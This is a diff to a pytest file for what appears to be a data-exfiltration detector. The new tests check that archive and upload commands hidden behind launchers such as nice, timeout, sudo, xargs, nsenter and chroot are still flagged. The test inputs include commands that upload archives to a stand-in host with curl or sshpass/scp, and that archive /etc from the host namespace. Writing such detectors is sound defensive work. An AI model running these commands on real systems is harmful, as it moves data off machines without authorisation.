@@ -353,6 +353,35 @@ def test_probes_that_send_no_data_are_not_uploads(cmd: str) -> None:
     assert [s for s in detector.signals(launch(cmd)) if s.kind is SignalKind.UPLOAD] == []
 
 
+@pytest.mark.parametrize(
+    ("cmd", "kind", "tool"),
+    [
+        ("nice -n 19 tar czf /tmp/a.tgz /srv", "archive", "tar"),
+        ("nice -n19 tar czf /tmp/a.tgz /srv", "archive", "tar"),
+        ("timeout --signal=KILL 600 tar czf /tmp/a.tgz /srv", "archive", "tar"),
+        ("timeout -s KILL 600 curl -T /tmp/a.tgz https://203.0.113.9/", "upload", "curl"),
+        ("env -i -u HOME LC_ALL=C zip -r /tmp/a.zip /srv", "archive", "zip"),
+        ("sudo -u postgres tar czf /tmp/a.tgz /srv", "archive", "tar"),
+        ("sshpass -p secret scp /tmp/a.tgz u@203.0.113.9:", "upload", "scp"),
+        ("xargs -I{} curl -T {} https://203.0.113.9/", "upload", "curl"),
+        ("nsenter -t 1 -m -u -n -i tar czf /tmp/h.tgz /etc", "archive", "tar"),
+        ("chroot /host tar czf /tmp/h.tgz /etc", "archive", "tar"),
+        ("nice nohup stdbuf -o0 tar czf /tmp/a.tgz /srv", "archive", "tar"),
+    ],
+)
+def test_a_launcher_does_not_hide_the_command_it_runs(cmd: str, kind: str, tool: str) -> None:
+    [signal] = detector.signals(launch(cmd))
+    assert (signal.kind.value, signal.tool) == (kind, tool)
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    ["nice", "timeout 5", "env", "env FOO=1", "nice -n 5 sleep 10", "/usr/bin/env python3 x.py"],
+)
+def test_a_launcher_running_nothing_in_the_catalog_is_no_signal(cmd: str) -> None:
+    assert detector.signals(launch(cmd)) == []
+
+
 def test_git_archive_is_archiving() -> None:
     assert kinds("git archive --format=tar.gz -o /tmp/src.tgz HEAD") == [
         ("archive", "git", "/tmp/src.tgz")
